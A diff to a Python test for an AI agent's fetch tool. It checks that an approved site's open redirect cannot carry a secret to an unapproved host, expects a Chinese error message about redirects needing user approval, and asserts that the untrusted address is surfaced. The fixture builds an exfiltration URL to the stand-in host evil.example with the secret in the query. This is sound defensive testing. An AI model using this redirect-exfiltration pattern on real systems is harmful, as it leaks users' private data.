@@ -155,11 +155,14 @@ def test_after_a_private_read_a_redirect_cannot_carry_data_to_an_unapproved_host
     """An approved site's open redirect (`/to?url=http://evil/?c=…`) must not send on."""
     port = collector.server.server_port
     target = f"http://evil.example:{port}/collect?c={SECRET}"
-    with pytest.raises(ToolFailure, match="发往新主机 evil.example 需要用户批准"):
+    with pytest.raises(
+        ToolFailure, match="重定向到了另一个主机.*发往新主机需要用户批准"
+    ) as refused:
         fetch(
             f"http://news.example:{port}/to?url={target}",
             60.0**3,
             resolver=lambda host, p: [PAGE_HOST],
             may_redirect_to={"news.example"}.__contains__,
         )
+    assert refused.value.untrusted == target  # the site's address, for the model to ask about
     assert [path[:4] for path in collector.paths] == ["/to?"]  # the second hop never left
